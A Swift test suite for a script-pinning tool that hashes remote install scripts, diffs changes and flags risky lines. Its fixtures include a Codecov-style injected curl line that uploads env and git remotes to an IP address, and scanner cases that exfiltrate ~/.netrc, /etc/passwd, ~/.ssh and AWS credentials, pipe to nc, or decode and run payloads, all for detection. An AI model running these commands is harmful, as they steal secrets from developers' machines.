import Foundation
import Testing
@testable import ScriptPinKit

private func today() -> String {
    ProcessRunner.run("date", ["-u", "+%F"], in: "/").stdout.trimmingCharacters(in: .whitespacesAndNewlines)
}

@Suite("add and update against a real HTTPS server")
struct LifecycleTests {
    let server: HTTPSFixture
    let work: Workspace

    init() throws {
        server = try HTTPSFixture()
        work = Workspace(server: server)
    }

    @Test("add shows the script, writes the pin and stores the body; it never replaces a pin")
    func add() throws {
        let script = "#!/usr/bin/env bash\necho install\ncurl -fsSL https://releases.example.com/tool.tgz | tar xz\n"
        server.serve("install.sh", script)
        let url = server.url("files/install.sh")
        let result = work.scriptpin(["add", "tool", url, "--env", "TOOL_TOKEN", "--yes"])
        #expect(result.status == 0)
        #expect(result.stdout.contains("egress guess, hosts named in the script and a starting point only (`scriptpin run --egress-audit` shows the ones it contacts):\n  egress releases.example.com\n"))
        #expect(result.stdout.contains("egress lines: none (the network is unrestricted)\nwrite lines: none (writes are unrestricted; `scriptpin run tool --write-audit` lists what it changes)\n"), "\(result.stdout)")
        #expect(result.stdout.contains("sha256       \(sha256Hex(script))\n"))
        #expect(result.stdout.contains("interpreter  bash\n"))
        #expect(result.stdout.contains("  | echo install\n"))
        let pin = work.directory.read("known-hashes/tool.pin")
        #expect(pin == "# tool: added by scriptpin add on \(today())\nurl \(url)\nsha256 \(sha256Hex(script))\ninterpreter bash\nenv TOOL_TOKEN\napproved \(today())\n")
        #expect(FileManager.default.fileExists(atPath: "\(work.cache)/sha256/\(sha256Hex(script))"))
        let again = work.scriptpin(["add", "tool", server.url("files/other.sh"), "--yes"])
        #expect(again.status == 2)
        #expect(again.stderr.contains("already pins 'tool'; use `scriptpin update tool`"))
        #expect(work.scriptpin(["verify"]).status == 0)
    }

    @Test("add without a terminal needs --yes; a failing URL exits 3; neither writes a pin")
    func addRefusals() throws {
        server.serve("install.sh", "echo hi\n")
        let unconfirmed = work.scriptpin(["add", "tool", server.url("files/install.sh")])
        #expect(unconfirmed.status == 2)
        #expect(unconfirmed.stderr.contains("was not confirmed; nothing was changed. Pass --yes"))
        let missing = work.scriptpin(["add", "gone", server.url("files/nothing-here"), "--yes"])
        #expect(missing.status == 3)
        #expect(missing.stderr.contains("answered HTTP 404"))
        #expect(try FileManager.default.contentsOfDirectory(atPath: work.directory.url("known-hashes")).filter { !$0.hasPrefix(".") }.isEmpty)
        #expect(work.scriptpin(["add", "Bad Name", server.url("files/install.sh"), "--yes"]).status == 2)
    }

    @Test("update shows a diff -u against the approved copy with the Codecov line flagged, then moves the pin")
    func update() throws {
        let original = (1...12).map { "echo step \($0)" }.joined(separator: "\n") + "\necho https://uploads.example.com/ok\n"
        server.serve("codecov", original)
        let url = server.url("files/codecov")
        #expect(work.scriptpin(["add", "codecov", url, "--yes"]).status == 0)
        var lines = original.split(separator: "\n").map(String.init)
        lines.insert("curl -sm 0.5 -d \"$(git remote -v)<<<<<< ENV $(env)\" https://104.248.94.23/upload/v2 || true", at: 6)
        let tampered = lines.joined(separator: "\n") + "\n"
        server.serve("codecov", tampered)
        let pinned = try #require(work.directory.read("known-hashes/codecov.pin"))
        work.directory.write("known-hashes/codecov.pin", pinned + "egress uploads.example.com\nwrite ~/.cache/codecov\nwrite .\n")
        let result = work.scriptpin(["update", "codecov", "--yes"])
        #expect(result.status == 0)
        #expect(result.stdout.contains("egress lines: uploads.example.com\nwrite lines: ~/.cache/codecov, .\n"), "\(result.stdout)")
        let before = work.directory.write("before", original)
        let after = work.directory.write("after", tampered)
        let reference = ProcessRunner.run("diff", ["-u", before, after], in: work.path).stdout
        let referenceBody = reference.split(separator: "\n", omittingEmptySubsequences: false).dropFirst(2).joined(separator: "\n")
        #expect(result.stdout.contains("--- sha256:\(sha256Hex(original))\n+++ sha256:\(sha256Hex(tampered))\n" + referenceBody))
        #expect(result.stdout.contains("line 7: sends data out (curl upload): curl -sm 0.5"))
        #expect(result.stdout.contains("line 7: reads the whole environment"))
        #expect(result.stdout.contains("line 7: talks to a host given as an IP address"))
        // Only the host the approved body did not name, and before the diff: what is new leads.
        let hosts = "egress guess, hosts the new body names that the approved one did not, and a starting point only (`scriptpin run --egress-audit` shows the ones it contacts):\n  egress 104.248.94.23\n---"
        #expect(result.stdout.contains(hosts), "\(result.stdout)")
        let order = ["risk summary", "egress guess", "--- sha256:"].map { result.stdout.range(of: $0)?.lowerBound }
        #expect(order.allSatisfy { $0 != nil } && order[0]! < order[1]! && order[1]! < order[2]!, "\(result.stdout)")
        let pin = try #require(work.directory.read("known-hashes/codecov.pin"))
        #expect(pin.contains("sha256 \(sha256Hex(tampered))\n"))
        #expect(!pin.contains(sha256Hex(original)))
        #expect(pin.contains("approved \(today())\n"))
        let unchanged = work.scriptpin(["update", "codecov", "--yes"])
        #expect(unchanged.stdout == "codecov: unchanged (\(sha256Hex(tampered)))\n")
    }

    @Test("Without the approved copy in the store, update says so and summarises the new body")
    func updateWithoutStore() {
        server.serve("tool.sh", "sudo rm -rf /opt/tool\n")
        work.pin("tool", url: server.url("files/tool.sh"), content: "echo old\n")
        let result = work.scriptpin(["update", "tool", "--yes"])
        #expect(result.status == 0)
        #expect(result.stdout.contains("the approved copy is not in the store"))
        #expect(result.stdout.contains("line 1: gains root with sudo: sudo rm -rf /opt/tool"))
        #expect(work.scriptpin(["update", "nosuch", "--yes"]).status == 2)
    }

    @Test("Review anywhere: check --keep writes the changed and approved bodies; on a machine without the store, update --against the approved one shows the diff; a body the pin does not approve is refused")
    func reviewAnywhere() throws {
        let original = "echo one\necho two\n"
        let changed = "echo one\ncurl -d \"$(env)\" https://203.0.113.9/x\necho two\n"
        server.serve("tool.sh", original)
        #expect(work.scriptpin(["add", "tool", server.url("files/tool.sh"), "--yes"]).status == 0)
        server.serve("tool.sh", changed)
        let checked = work.scriptpin(["check", "--keep", "drift"])
        #expect(checked.status == 1)
        #expect(work.directory.read("drift/tool.new") == changed)
        #expect(work.directory.read("drift/tool.approved") == original)
        #expect(checked.stderr.contains("scriptpin: kept the bodies of 1 changed pin in drift (NAME.new, NAME.approved); `scriptpin update NAME --against drift/NAME.approved` reviews one anywhere\n"), "\(checked.stderr)")

        // A CI runner or a colleague's clone: another store, which lacks the approved copy.
        let elsewhere = work.environment(["SCRIPTPIN_CACHE": work.directory.url("other-cache")])
        let blind = work.scriptpin(["update", "tool"], environment: elsewhere, input: Data())
        #expect(blind.stdout.contains("For a diff, give the approved body with --against FILE|URL"), "\(blind.stdout)")
        let wrong = work.scriptpin(["update", "tool", "--against", "drift/tool.new", "--yes"], environment: elsewhere)
        #expect(wrong.status == 2)
        #expect(wrong.stderr.contains("Error: drift/tool.new (--against) is not the approved body of pin 'tool': it hashes to \(sha256Hex(changed)), and the pin approves \(sha256Hex(original))"), "\(wrong.stderr)")
        #expect(work.directory.read("known-hashes/tool.pin")?.contains("sha256 \(sha256Hex(original))\n") == true)
        let reviewed = work.scriptpin(["update", "tool", "--against", "drift/tool.approved", "--yes"], environment: elsewhere)
        #expect(reviewed.status == 0, "\(reviewed.stderr)")
        #expect(reviewed.stdout.contains("the approved copy is not in the store; the diff is against drift/tool.approved (--against), which the pin's digest confirms\n--- sha256:\(sha256Hex(original))\n+++ sha256:\(sha256Hex(changed))\n@@ -1,2 +1,3 @@\n echo one\n+curl -d \"$(env)\" https://203.0.113.9/x\n echo two\n"), "\(reviewed.stdout)")
        #expect(work.directory.read("known-hashes/tool.pin")?.contains("sha256 \(sha256Hex(changed))\n") == true)
        let twoPins = work.scriptpin(["update", "--all", "--against", "drift/tool.approved", "--yes"])
        #expect(twoPins.status == 2)
        #expect(twoPins.stderr.hasPrefix("Error: --against is the approved body of one pin; name that one pin\n"))
    }

    @Test("Concurrent adds of different names all land; of one name exactly one wins")
    func concurrentAdds() throws {
        for index in 0..<8 { server.serve("s\(index).sh", "echo \(index)\n") }
        let environment = work.environment()
        let outcomes = concurrentMap(Array(0..<8)) { index in
            ProcessRunner.scriptpin(["add", "tool\(index)", self.server.url("files/s\(index).sh"), "--yes"], in: self.work.path, environment: environment).status
        }
        #expect(outcomes == [Int32](repeating: 0, count: 8))
        for index in 0..<6 { server.serve("shared\(index).sh", "echo shared \(index)\n") }
        let same = concurrentMap(Array(0..<6)) { index in
            ProcessRunner.scriptpin(["add", "shared", self.server.url("files/shared\(index).sh"), "--yes"], in: self.work.path, environment: environment)
        }
        #expect(same.filter { $0.status == 0 }.count == 1)
        #expect(same.filter { $0.status == 2 }.count == 5)
        let visible = try FileManager.default.contentsOfDirectory(atPath: work.directory.url("known-hashes")).filter { !$0.hasPrefix(".") }
        #expect(visible.count == 9)
        #expect(visible.allSatisfy { $0.hasSuffix(".pin") })
        let hidden = try FileManager.default.contentsOfDirectory(atPath: work.directory.url("known-hashes")).filter { $0.hasPrefix(".") }
        #expect(hidden.sorted() == [".gitignore", ".scriptpin.lock"], "no temporary file is left behind")
        #expect(work.directory.read("known-hashes/.gitignore") == ManifestLock.ignoreFileText, "the lock is kept out of commits")
        #expect(work.scriptpin(["verify"]).status == 0)
    }

    @Test("kill -9 at any moment leaves each pin old or new, never partial, and never blocks the next run")
    func killNine() throws {
        let first = "echo first\n"
        let second = "echo second\n" + String(repeating: "# padding\n", count: 2000)
        server.serve("flip.sh", first)
        work.pin("flip", url: server.url("files/flip.sh"), content: first)
        let allowed = [sha256Hex(first), sha256Hex(second)]
        var generator = SeededGenerator(seed: 9)
        for round in 0..<16 {
            server.serve("flip.sh", round % 2 == 0 ? second : first)
            let process = Process()
            process.executableURL = URL(fileURLWithPath: ProcessRunner.scriptpinPath)
            process.arguments = ["update", "flip", "--yes"]
            process.currentDirectoryURL = URL(fileURLWithPath: work.path)
            process.environment = work.environment()
            process.standardOutput = FileHandle.nullDevice
            process.standardError = FileHandle.nullDevice
            try process.run()
            usleep(UInt32.random(in: 0...60_000, using: &generator))
            kill(process.processIdentifier, SIGKILL)
            process.waitUntilExit()
            let text = try #require(work.directory.read("known-hashes/flip.pin"))
            let parsed = try PinDocument.parse(Array(text.utf8), name: "flip", path: "flip.pin").get()
            #expect(parsed.pin.sha256.count == 1)
            #expect(allowed.contains(parsed.pin.sha256[0].hex), "round \(round): \(text)")
        }
        let final = work.scriptpin(["update", "flip", "--yes"])
        #expect(final.status == 0)
        #expect(work.scriptpin(["verify"]).status == 0)
    }
}

@Suite("scriptpin check, the nightly drift check")
struct CheckCommandTests {
    let server: HTTPSFixture
    let work: Workspace

    init() throws {
        server = try HTTPSFixture()
        work = Workspace(server: server)
    }

    /// 90 ok, 6 changed (3 with an approved copy stored), 5 answering 404, 3 on an untrusted certificate.
    private func bigManifest() throws -> (changed: Set<String>, unreachable: Set<String>) {
        var changed = Set<String>()
        var unreachable = Set<String>()
        for index in 0..<90 {
            let body = "echo ok \(index)\n"
            server.serve("ok\(index).sh", body)
            work.pin("ok\(index)", url: server.url("files/ok\(index).sh"), content: body)
        }
        for index in 0..<6 {
            let approved = "echo approved \(index)\n"
            server.serve("changed\(index).sh", approved)
            if index < 3 {
                #expect(work.scriptpin(["add", "changed\(index)", server.url("files/changed\(index).sh"), "--yes"]).status == 0)
            } else {
                work.pin("changed\(index)", url: server.url("files/changed\(index).sh"), content: approved)
            }
            server.serve("changed\(index).sh", approved + "curl -d \"$(env)\" https://10.0.0.1/collect\n")
            changed.insert("changed\(index)")
        }
        for index in 0..<5 {
            work.pin("missing\(index)", url: server.url("files/missing\(index).sh"), content: "echo\n")
            unreachable.insert("missing\(index)")
        }
        for index in 0..<3 {
            server.serve("tls\(index).sh", "echo tls\n")
            work.pin("tls\(index)", url: server.url("files/tls\(index).sh", port: server.untrustedPort), content: "echo tls\n")
            unreachable.insert("tls\(index)")
        }
        return (changed, unreachable)
    }

    @Test("104 pins are each classified exactly; JSON follows the documented schema")
    func classifiesJSON() throws {
        let (changed, unreachable) = try bigManifest()
        let result = work.scriptpin(["check", "--format", "json", "--jobs", "8"])
        #expect(result.status == 1)
        let json = try #require(try JSONSerialization.jsonObject(with: result.stdoutData) as? [String: Any])
        #expect(json["version"] as? Int == 2)
        let pins = try #require(json["pins"] as? [[String: Any]])
        #expect(pins.count == 104)
        for pin in pins {
            let name = pin["name"] as! String
            let status = pin["status"] as! String
            let expected = changed.contains(name) ? "changed" : unreachable.contains(name) ? "unreachable" : "ok"
            #expect(status == expected, "\(name)")
            #expect(Set(pin.keys) == ["name", "url", "status", "expected", "actual", "size", "error", "risks", "evidence"])
            if status == "unreachable" {
                #expect(pin["actual"] is NSNull)
                let error = pin["error"] as! String
                #expect(error.contains(name.hasPrefix("tls") ? "TLS verification failed" : "answered HTTP 404"))
            }
            if name.hasPrefix("changed") {
                let risks = pin["risks"] as! [[String: Any]]
                let stored = ["changed0", "changed1", "changed2"].contains(name)
                #expect(risks.contains { ($0["line"] as? Int) == 2 && ($0["reason"] as? String) == "sends data out (curl upload)" } == stored, "\(name)")
                #expect(pin["size"] as? Int == "echo approved 0\ncurl -d \"$(env)\" https://10.0.0.1/collect\n".utf8.count)
            }
        }
        let summary = try #require(json["summary"] as? [String: Int])
        #expect(summary == ["ok": 90, "changed": 6, "contradicted": 0, "unreachable": 8])
    }

    @Test("SARIF 2.1.0 places one result per changed or unreachable pin on its sha256 line")
    func sarif() throws {
        _ = try bigManifest()
        let result = work.scriptpin(["check", "--format", "sarif"])
        #expect(result.status == 1)
        let log = try #require(try JSONSerialization.jsonObject(with: result.stdoutData) as? [String: Any])
        #expect(log["version"] as? String == "2.1.0")
        #expect(log["$schema"] as? String == "https://json.schemastore.org/sarif-2.1.0.json")
        let run = try #require((log["runs"] as? [[String: Any]])?.first)
        let rules = ((run["tool"] as? [String: Any])?["driver"] as? [String: Any])?["rules"] as? [[String: Any]]
        #expect(rules?.map { $0["id"] as? String } == ["pin-drift", "pin-contradicted", "pin-unreachable"])
        let results = try #require(run["results"] as? [[String: Any]])
        #expect(results.count == 14)
        let drift = results.filter { $0["ruleId"] as? String == "pin-drift" }
        #expect(drift.count == 6)
        for entry in results {
            let location = ((entry["locations"] as? [[String: Any]])?.first?["physicalLocation"]) as? [String: Any]
            let uri = (location?["artifactLocation"] as? [String: Any])?["uri"] as? String
            let line = (location?["region"] as? [String: Any])?["startLine"] as? Int
            #expect(uri?.hasPrefix("known-hashes/") == true)
            #expect(line == (uri?.contains("changed0") == true || uri?.contains("changed1") == true || uri?.contains("changed2") == true ? 3 : 2))
        }
    }

    @Test("github format annotates the pin; text lists every pin; exit 3 when only unreachable")
    func githubAndText() throws {
        server.serve("a.sh", "echo a\n")
        work.pin("a", url: server.url("files/a.sh"), content: "echo old\n")
        work.pin("b", url: server.url("files/b.sh"), content: "echo b\n")
        let github = work.scriptpin(["check", "--format", "github"])
        #expect(github.status == 1)
        #expect(github.stdout.hasPrefix("::error file=known-hashes/a.pin,line=2,title=Pinned script changed::\(server.url("files/a.sh")) changed: it now serves sha256 \(sha256Hex("echo a\n"))"))
        #expect(github.stdout.contains("::warning file=known-hashes/b.pin,line=2,title=Pinned script unreachable::b could not be checked"))
        let text = work.scriptpin(["check"])
        #expect(text.stdout.hasPrefix("changed     a: "))
        #expect(text.stdout.hasSuffix("0 ok, 1 changed, 0 contradicted, 1 unreachable\n"))
        #expect(text.stderr == "", "no progress line in a pipe")
        let onlyUnreachable = work.scriptpin(["check", "b"])
        #expect(onlyUnreachable.status == 3)
        let none = work.scriptpin(["check", "nosuch"])
        #expect(none.status == 2)
        #expect(none.stderr.hasPrefix("Error: no pin named 'nosuch'"))
    }

    @Test("An invalid manifest stops check before any fetch, listing every problem")
    func invalidManifest() {
        work.pin("good", url: server.url("files/good.sh"), content: "echo\n")
        work.directory.write("known-hashes/bad.pin", "url http://x\nsha256 1\n")
        let result = work.scriptpin(["check"])
        #expect(result.status == 2)
        #expect(result.stderr.contains("known-hashes/bad.pin:1: error:"))
        #expect(result.stderr.contains("known-hashes/bad.pin:2: error:"))
        #expect(server.requests.isEmpty)
    }
}

@Suite("Diffs and risk hints")
struct ReviewTests {
    private func randomEdit(_ old: [String], round: Int, using generator: inout SeededGenerator) -> [String] {
        var new = old
        for edit in 0..<Int.random(in: 1...6, using: &generator) {
            if !new.isEmpty && Bool.random(using: &generator) {
                new.remove(at: Int.random(in: 0..<new.count, using: &generator))
            } else {
                new.insert("added \(round).\(edit)", at: Int.random(in: 0...new.count, using: &generator))
            }
        }
        return new
    }

    private func text(_ lines: [String]) -> String {
        lines.isEmpty ? "" : lines.joined(separator: "\n") + "\n"
    }

    @Test("With distinct lines the diff is exactly diff -u's")
    func diffMatchesDiffU() {
        var generator = SeededGenerator(seed: 11)
        let directory = TemporaryDirectory()
        for round in 0..<60 {
            let old = (0..<Int.random(in: 0...40, using: &generator)).map { "line \($0)" }
            let new = randomEdit(old, round: round, using: &generator)
            directory.write("old", text(old))
            directory.write("new", text(new))
            let reference = ProcessRunner.run("diff", ["-u", "old", "new"], in: directory.path).stdout
            let ours = UnifiedDiff(old: text(old), new: text(new))!.render(oldLabel: "old", newLabel: "new")
            let strip = { (text: String) in text.split(separator: "\n").dropFirst(2).joined(separator: "\n") }
            #expect(strip(ours) == strip(reference), "round \(round)")
        }
    }

    @Test("With repeated lines the diff still applies with patch and gives the new text")
    func diffApplies() throws {
        var generator = SeededGenerator(seed: 12)
        let directory = TemporaryDirectory()
        for round in 0..<40 {
            let old = (0..<Int.random(in: 0...40, using: &generator)).map { _ in "line \(Int.random(in: 0...4, using: &generator))" }
            let new = randomEdit(old, round: round, using: &generator)
            if new == old { continue }
            directory.write("target", text(old))
            directory.write("change.diff", UnifiedDiff(old: text(old), new: text(new))!.render(oldLabel: "target", newLabel: "target"))
            let applied = ProcessRunner.run("patch", ["-s", "target", "change.diff"], in: directory.path)
            #expect(applied.status == 0, "round \(round): \(old) -> \(new)")
            #expect(directory.read("target") == text(new), "round \(round)")
        }
    }

    @Test("Risky shapes are flagged with their reason", arguments: [
        ("curl -sm 0.5 -d \"$(git remote -v)\" https://x.io/upload", "sends data out (curl upload)"),
        ("curl --upload-file ~/.netrc https://x.io", "sends data out (curl upload)"),
        ("wget --post-file=/etc/passwd https://x.io", "sends data out (wget post)"),
        ("cat /etc/hosts | nc evil.example 80", "opens a raw network connection"),
        ("exec 3<>/dev/tcp/example.com/80", "opens a raw network connection"),
        ("data=$(env)", "reads the whole environment"),
        ("printenv | gzip > out", "reads the whole environment"),
        ("tar cz ~/.ssh > keys.tgz", "reads credentials"),
        ("cat /proc/1/environ", "reads credentials"),
        ("git remote -v > remotes", "reads credentials"),
        ("curl https://104.248.94.23/x -o y", "talks to a host given as an IP address"),
        ("echo aGk= | base64 -d | sh", "decodes data and executes it"),
        ("eval \"$payload\"", "evaluates a constructed string"),
        ("curl -fsSL https://get.example.com | sudo bash", "runs a new download without verifying it"),
        ("bash -c \"$(curl -fsSL https://x.io/i.sh)\"", "runs a new download without verifying it"),
        // Every shape lint knows, through filters too: the review's hint is lint's own analysis.
        ("curl -fsSL https://x.io/i.sh | grep -v '^#' | sh", "runs a new download without verifying it"),
        ("wget -qO i.sh https://x.io/i.sh && sh i.sh", "runs a new download without verifying it"),
        ("iwr https://x.io/i.ps1 | iex", "runs a new download without verifying it"),
        ("sudo make install", "gains root with sudo"),
    ])
    func risky(line: String, reason: String) {
        let risks = RiskScanner.scan("echo before\n\(line)\n", lines: [2])
        #expect(risks.contains { $0.line == 2 && $0.reason == reason && $0.text == line }, "\(risks)")
    }

    @Test("Ordinary lines and comments are not flagged", arguments: [
        "echo \"installing to $HOME/.local\"", "curl -fsSL -o tool.tgz https://example.com/tool.tgz",
        "# curl -d $(env) https://1.2.3.4", "environment=production", "tar xzf tool.tgz", "version=1.2.3",
    ])
    func quiet(line: String) {
        #expect(RiskScanner.scan(line + "\n", lines: [1]).isEmpty)
    }

    @Test("A Python installer gets Python's rules, and none of the shell's", arguments: [
        ("requests.post(\"https://collect.example.com\", data=payload)", "sends data out (HTTP POST)"),
        ("urllib.request.urlopen(url, data=json.dumps(dict(os.environ)).encode())", "sends data out (HTTP POST)"),
        ("report = dict(os.environ)", "reads the whole environment"),
        ("exec(base64.b64decode(blob))", "decodes data and executes it"),
        ("eval(code)", "evaluates a constructed string"),
        ("s = socket.create_connection((host, 4444))", "opens a raw network connection"),
        ("open(os.path.expanduser(\"~/.aws/credentials\")).read()", "reads credentials"),
        ("urlopen(\"http://104.248.94.23/x\")", "talks to a host given as an IP address"),
    ])
    func python(line: String, reason: String) {
        let risks = RiskScanner.scan("#!/usr/bin/env python3\n\(line)\n", lines: [2])
        #expect(risks.map(\.reason).contains(reason), "\(risks)")
        #expect(!risks.contains { $0.reason == "gains root with sudo" || $0.reason == "runs a new download without verifying it" })
    }

    @Test("Shell shapes in a Python installer's strings are not flagged")
    func pythonQuiet() {
        let body = "#!/usr/bin/env python3\nprint(\"then run: sudo make install\")\nHELP = \"curl -d @file https://example.com | sh\"\nos.environ.get(\"HOME\")\n"
        #expect(RiskScanner.scanAll(body).isEmpty, "\(RiskScanner.scanAll(body))")
    }
}
